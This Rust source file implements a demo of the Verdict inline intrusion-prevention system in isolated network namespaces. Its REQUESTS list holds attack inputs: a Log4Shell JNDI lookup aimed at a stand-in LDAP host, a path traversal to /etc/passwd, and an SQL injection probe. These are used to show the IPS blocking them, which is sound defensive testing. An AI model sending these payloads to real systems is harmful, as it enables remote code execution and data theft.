//! `verdict demo`: Verdict inline in a throwaway network, in one command.
//!
//! ```text
//!   client 198.18.1.2 --- 198.18.1.1 [gateway: verdict run, FORWARD] 198.18.2.1 --- server 198.18.2.2:80
//! ```
//! Three network namespaces with unique names (`vdemo-<pid>-{client,gw,server}`) joined by
//! veth pairs; addresses only from 198.18.0.0/15 (the benchmarking range, never routed). The
//! gateway runs this very binary as `verdict run` (gateway topology, the embedded default
//! ruleset, `HOME_NET` set to the demo network); a tiny HTTP server answers in the server
//! namespace; the client sends benign requests and a few attacks, and the demo prints what
//! was allowed, what was blocked, and the alerts Verdict wrote to eve.json.
//!
//! Cleanup: the namespaces are deleted by a guard on every exit path (errors, panics, and
//! Ctrl-C, which only sets a flag checked between steps). Deleting a namespace removes its
//! veths, routes and firewall rules, so nothing is left on the host; nothing is created in
//! the host's own namespace.

use std::fs::File;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream};
use std::os::fd::AsRawFd;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitCode, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{bail, Context};

use crate::signals::Signals;

/// Arguments of `verdict demo`.
#[derive(Debug, clap::Args)]
pub struct DemoArgs {
    /// Keep eve.json and Verdict's log in this directory (default: a temporary directory,
    /// removed at the end).
    #[arg(long, value_name = "DIR")]
    pub keep_logs: Option<PathBuf>,
    /// Seconds a blocked request waits before it is reported as blocked.
    #[arg(long, default_value_t = 1.5)]
    pub timeout: f64,
}

const CLIENT: Ipv4Addr = Ipv4Addr::new(198, 18, 1, 2);
const GW_CLIENT_SIDE: Ipv4Addr = Ipv4Addr::new(198, 18, 1, 1);
const GW_SERVER_SIDE: Ipv4Addr = Ipv4Addr::new(198, 18, 2, 1);
const SERVER: Ipv4Addr = Ipv4Addr::new(198, 18, 2, 2);
const PORT: u16 = 80;

/// The requests the client sends: (what it is, request line, expected outcome).
const REQUESTS: &[(&str, &str)] = &[
    ("a normal page", "GET /index.html HTTP/1.1"),
    (
        "a search",
        "GET /search?q=inline+packet+inspection HTTP/1.1",
    ),
    (
        "Log4Shell (CVE-2021-44228)",
        "GET /?x=${jndi:ldap://198.18.2.66:1389/a} HTTP/1.1",
    ),
    (
        "path traversal to /etc/passwd",
        "GET /static/../../../../etc/passwd HTTP/1.1",
    ),
    (
        "SQL injection probe",
        "GET /item?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1",
    ),
    ("another normal page", "GET /about.html HTTP/1.1"),
];

/// Runs `verdict demo`.
pub fn run(args: DemoArgs) -> anyhow::Result<ExitCode> {
    // SAFETY: geteuid has no preconditions and cannot fail.
    if unsafe { libc::geteuid() } != 0 {
        bail!("`verdict demo` builds network namespaces and needs root: run it with sudo");
    }
    for tool in ["ip", "iptables"] {
        if Command::new(tool)
            .arg("-V")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .is_err()
        {
            bail!(
                "`{tool}` is not installed; install iproute2 and iptables (scripts/deps.sh does)"
            );
        }
    }
    let timeout = Duration::from_secs_f64(args.timeout.clamp(0.2, 30.0));
    let signals = Signals::install_interrupt_only().context("cannot install a Ctrl-C handler")?;
    let (logs, _tmp) = match &args.keep_logs {
        Some(d) => {
            std::fs::create_dir_all(d).with_context(|| {
                format!(
                    "cannot create {} (give --keep-logs a writable directory)",
                    d.display()
                )
            })?;
            (d.clone(), None)
        }
        None => {
            let d = std::env::temp_dir().join(format!("verdict-demo-{}", std::process::id()));
            std::fs::create_dir_all(&d).with_context(|| {
                format!(
                    "cannot create {} (set TMPDIR to a writable directory, or use --keep-logs)",
                    d.display()
                )
            })?;
            (d.clone(), Some(RemoveDir(d)))
        }
    };

    println!(
        "Verdict demo: an inline IPS between a client and a web server, in network namespaces.\n"
    );
    println!("  client {CLIENT} ──▶ gateway (verdict run, FORWARD) ──▶ server {SERVER}:{PORT}\n");
    let net = DemoNet::build().context("cannot build the demo network")?;
    check_interrupt(&signals)?;

    let server_stop = Arc::new(AtomicBool::new(false));
    let server = {
        let stop = Arc::clone(&server_stop);
        let ns = net.path("server");
        std::thread::Builder::new()
            .name("demo-server".into())
            .spawn(move || -> anyhow::Result<()> {
                enter_netns(&ns)?;
                http_server(&stop)
            })?
    };

    let config = logs.join("verdict-demo.toml");
    std::fs::write(
        &config,
        format!(
            "# written by `verdict demo`\nqueues = 0\ntopology = \"gateway\"\nfail_open = true\n\
             [rules.vars]\nHOME_NET = \"[198.18.2.0/24]\"\nEXTERNAL_NET = \"!$HOME_NET\"\n\
             [outputs]\nlog_dir = \"{}\"\nstats_interval_secs = 0\n",
            logs.display()
        ),
    )?;
    let log_file = File::create(logs.join("verdict.log"))?;
    let exe = std::env::current_exe().context("cannot find the verdict binary")?;
    let child = Command::new("ip")
        .args(["netns", "exec", &net.name("gw")])
        .arg(&exe)
        .args(["--log", "info", "run", "-c"])
        .arg(&config)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(log_file)
        .spawn()
        .context("cannot start `verdict run` in the gateway namespace")?;
    let mut verdict = KillOnDrop(Some(child));
    wait_ready(&mut verdict, &logs, &signals)?;
    println!("Verdict is inline on the gateway (gateway topology, embedded default ruleset).\n");

    println!("  {:<8} {:<31} request", "result", "what");
    println!("  {}", "─".repeat(90));
    let mut outcomes = Vec::new();
    for (what, line) in REQUESTS {
        check_interrupt(&signals)?;
        let answer = net.in_client(|| http_get(line, timeout))??;
        let result = match &answer {
            Some(_) => "allowed",
            None => "BLOCKED",
        };
        let shown = line.strip_suffix(" HTTP/1.1").unwrap_or(line);
        println!("  {result:<8} {what:<31} {}", truncate(shown, 50));
        outcomes.push(answer.is_some());
    }

    // Stop Verdict gracefully: it removes its rules and flushes eve.json.
    let stopped = verdict.stop();
    server_stop.store(true, Ordering::Relaxed);
    let _ = server.join();

    let eve = std::fs::read_to_string(logs.join("eve.json")).unwrap_or_default();
    println!("\nAlerts Verdict wrote to eve.json:");
    // One line per alert and connection; a blocked packet's retransmissions alert again.
    let mut lines: Vec<(String, u32)> = Vec::new();
    for line in eve.lines() {
        let Ok(v) = serde_json::from_str::<serde_json::Value>(line) else {
            continue;
        };
        if v["event_type"] != "alert" {
            continue;
        }
        let text = format!(
            "  [{}] sid {} {}  {}:{} -> {}:{}",
            v["alert"]["action"].as_str().unwrap_or("?"),
            v["alert"]["signature_id"],
            v["alert"]["signature"].as_str().unwrap_or("?"),
            v["src_ip"].as_str().unwrap_or("?"),
            v["src_port"],
            v["dest_ip"].as_str().unwrap_or("?"),
            v["dest_port"],
        );
        match lines.iter_mut().find(|(t, _)| *t == text) {
            Some((_, n)) => *n += 1,
            None => lines.push((text, 1)),
        }
    }
    for (text, n) in &lines {
        if *n > 1 {
            println!("{text}  (x{n}: the client retransmitted the dropped packet)");
        } else {
            println!("{text}");
        }
    }
    if lines.is_empty() {
        println!("  (none)");
    }
    let alerts = lines.len();
    let allowed = outcomes.iter().filter(|a| **a).count();
    println!(
        "\n{allowed} request(s) allowed (the server answered), {} blocked (dropped inline: no \
         answer within {:.1} s), {alerts} alerting connection(s).",
        outcomes.len() - allowed,
        timeout.as_secs_f64()
    );
    match &args.keep_logs {
        Some(d) => println!("eve.json and verdict.log kept in {}.", d.display()),
        None => println!("Run with --keep-logs DIR to keep eve.json and Verdict's log."),
    }
    drop(net);
    println!("Cleaned up: Verdict stopped and removed its rules; the namespaces are deleted.");
    println!(
        "\nNext: `verdict config example > verdict.toml` and `sudo verdict run -c verdict.toml`."
    );
    if let Err(e) = stopped {
        bail!("verdict run did not stop cleanly: {e}");
    }
    // The expected outcome: benign requests pass, the two drop-rule attacks are blocked.
    let expected = [true, true, false, false, true, true];
    if outcomes != expected {
        eprintln!(
            "verdict demo: unexpected outcome {outcomes:?} (expected {expected:?}); Verdict's log: {}",
            logs.join("verdict.log").display()
        );
        return Ok(ExitCode::from(1));
    }
    Ok(ExitCode::SUCCESS)
}

fn truncate(s: &str, n: usize) -> String {
    if s.chars().count() <= n {
        s.to_owned()
    } else {
        let mut t: String = s.chars().take(n - 1).collect();
        t.push('…');
        t
    }
}

fn check_interrupt(signals: &Signals) -> anyhow::Result<()> {
    if signals.stop_requested() {
        bail!("interrupted; cleaning up");
    }
    Ok(())
}

/// Waits until `verdict run` in the gateway says it is running.
fn wait_ready(verdict: &mut KillOnDrop, logs: &Path, signals: &Signals) -> anyhow::Result<()> {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        check_interrupt(signals)?;
        if let Some(status) = verdict.0.as_mut().and_then(|c| c.try_wait().ok().flatten()) {
            let log = std::fs::read_to_string(logs.join("verdict.log")).unwrap_or_default();
            bail!("verdict run exited ({status}) during start:\n{log}");
        }
        // `verdict run` logs this line once its queues are bound, its firewall rules are in
        // (whatever the backend) and its threads run.
        let log = std::fs::read_to_string(logs.join("verdict.log")).unwrap_or_default();
        if log.contains("verdict running") {
            return Ok(());
        }
        if Instant::now() > deadline {
            bail!("verdict run did not start within 20 s");
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Sends one HTTP request from the current (client) namespace; returns the status line, or
/// None when no answer came within `timeout`.
fn http_get(request_line: &str, timeout: Duration) -> anyhow::Result<Option<String>> {
    let addr = SocketAddr::from((SERVER, PORT));
    let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(3))
        .with_context(|| format!("cannot connect to the demo server {addr}"))?;
    s.set_read_timeout(Some(timeout))?;
    write!(
        s,
        "{request_line}\r\nHost: {SERVER}\r\nUser-Agent: verdict-demo\r\nConnection: close\r\n\r\n"
    )?;
    let mut buf = [0u8; 512];
    match s.read(&mut buf) {
        Ok(n) if n > 0 => {
            let text = String::from_utf8_lossy(&buf[..n]);
            let status = text.lines().next().unwrap_or("").trim();
            let status = status.strip_prefix("HTTP/1.0 ").unwrap_or(status);
            Ok(Some(status.to_owned()))
        }
        _ => Ok(None),
    }
}

/// A minimal HTTP server: answers every request with 200 and a short page.
fn http_server(stop: &AtomicBool) -> anyhow::Result<()> {
    let l = TcpListener::bind((SERVER, PORT)).context("demo server: bind")?;
    l.set_nonblocking(true)?;
    while !stop.load(Ordering::Relaxed) {
        match l.accept() {
            Ok((mut c, _)) => {
                std::thread::spawn(move || {
                    let _ = c.set_nonblocking(false);
                    let _ = c.set_read_timeout(Some(Duration::from_secs(5)));
                    let mut buf = [0u8; 2048];
                    if let Ok(n) = c.read(&mut buf) {
                        if n > 0 {
                            let body = "hello from the demo server\n";
                            let _ = write!(
                                c,
                                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
                                body.len()
                            );
                        }
                    }
                });
            }
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                std::thread::sleep(Duration::from_millis(5));
            }
            Err(e) => return Err(e.into()),
        }
    }
    Ok(())
}

/// Moves the calling thread into the network namespace at `path`.
fn enter_netns(path: &Path) -> anyhow::Result<()> {
    let f = File::open(path).with_context(|| format!("cannot open {}", path.display()))?;
    // SAFETY: setns takes a valid open descriptor (kept alive by `f` for the call) and a
    // namespace type constant; it changes only the calling thread's namespace.
    let r = unsafe { libc::setns(f.as_raw_fd(), libc::CLONE_NEWNET) };
    if r != 0 {
        return Err(std::io::Error::last_os_error())
            .with_context(|| format!("cannot enter {}", path.display()));
    }
    Ok(())
}

/// The three namespaces; deleted on drop.
struct DemoNet {
    prefix: String,
    created: Vec<String>,
}

impl DemoNet {
    fn name(&self, role: &str) -> String {
        format!("{}-{role}", self.prefix)
    }

    fn path(&self, role: &str) -> PathBuf {
        PathBuf::from("/run/netns").join(self.name(role))
    }

    fn build() -> anyhow::Result<DemoNet> {
        let mut net = DemoNet {
            prefix: format!("vdemo-{}", std::process::id()),
            created: Vec::new(),
        };
        for role in ["client", "gw", "server"] {
            let n = net.name(role);
            ip(&["netns", "add", &n])?;
            net.created.push(n.clone());
            ip(&["-n", &n, "link", "set", "lo", "up"])?;
        }
        let (c, g, s) = (net.name("client"), net.name("gw"), net.name("server"));
        ip(&[
            "-n", &c, "link", "add", "eth0", "type", "veth", "peer", "name", "toclient", "netns",
            &g,
        ])?;
        ip(&[
            "-n", &s, "link", "add", "eth0", "type", "veth", "peer", "name", "toserver", "netns",
            &g,
        ])?;
        for (ns, dev, addr) in [
            (&c, "eth0", format!("{CLIENT}/24")),
            (&g, "toclient", format!("{GW_CLIENT_SIDE}/24")),
            (&g, "toserver", format!("{GW_SERVER_SIDE}/24")),
            (&s, "eth0", format!("{SERVER}/24")),
        ] {
            ip(&["-n", ns, "addr", "add", &addr, "dev", dev])?;
            ip(&["-n", ns, "link", "set", dev, "up"])?;
        }
        ip(&[
            "-n",
            &c,
            "route",
            "add",
            "default",
            "via",
            &GW_CLIENT_SIDE.to_string(),
        ])?;
        ip(&[
            "-n",
            &s,
            "route",
            "add",
            "default",
            "via",
            &GW_SERVER_SIDE.to_string(),
        ])?;
        // /proc/sys/net belongs to the network namespace of the thread that opens it.
        let gw = net.path("gw");
        std::thread::scope(|sc| {
            sc.spawn(|| -> anyhow::Result<()> {
                enter_netns(&gw)?;
                std::fs::write("/proc/sys/net/ipv4/ip_forward", "1")
                    .context("cannot enable forwarding in the gateway")
            })
            .join()
            .map_err(|_| anyhow::anyhow!("the gateway thread panicked"))?
        })?;
        Ok(net)
    }

    /// Runs `f` on a thread inside the client namespace.
    fn in_client<R: Send>(&self, f: impl FnOnce() -> R + Send) -> anyhow::Result<R> {
        let path = self.path("client");
        std::thread::scope(|s| {
            s.spawn(|| -> anyhow::Result<R> {
                enter_netns(&path)?;
                Ok(f())
            })
            .join()
            .map_err(|_| anyhow::anyhow!("the client thread panicked"))?
        })
    }
}

impl Drop for DemoNet {
    fn drop(&mut self) {
        for n in self.created.drain(..).rev() {
            if let Err(e) = ip(&["netns", "del", &n]) {
                eprintln!(
                    "verdict demo: could not delete namespace {n}: {e}; run `ip netns del {n}`"
                );
            }
        }
    }
}

fn ip(args: &[&str]) -> anyhow::Result<()> {
    let out = Command::new("ip")
        .args(args)
        .output()
        .context("cannot run `ip`")?;
    if !out.status.success() {
        bail!(
            "`ip {}` failed: {}",
            args.join(" "),
            String::from_utf8_lossy(&out.stderr).trim()
        );
    }
    Ok(())
}

/// The `verdict run` child: SIGTERM and wait on [`KillOnDrop::stop`], SIGKILL if dropped.
struct KillOnDrop(Option<Child>);

impl KillOnDrop {
    fn stop(&mut self) -> anyhow::Result<()> {
        let Some(mut c) = self.0.take() else {
            return Ok(());
        };
        // SAFETY: kill with a child's pid and a valid signal has no memory effects.
        unsafe { libc::kill(c.id() as libc::pid_t, libc::SIGTERM) };
        let deadline = Instant::now() + Duration::from_secs(15);
        loop {
            if let Some(status) = c.try_wait()? {
                if status.success() {
                    return Ok(());
                }
                bail!("exit status {status}");
            }
            if Instant::now() > deadline {
                let _ = c.kill();
                let _ = c.wait();
                bail!("did not stop within 15 s; killed");
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        if let Some(mut c) = self.0.take() {
            // SAFETY: as in `stop`.
            unsafe { libc::kill(c.id() as libc::pid_t, libc::SIGTERM) };
            let deadline = Instant::now() + Duration::from_secs(5);
            while Instant::now() < deadline {
                if let Ok(Some(_)) = c.try_wait() {
                    return;
                }
                std::thread::sleep(Duration::from_millis(20));
            }
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

/// A directory removed on drop.
struct RemoveDir(PathBuf);

impl Drop for RemoveDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}
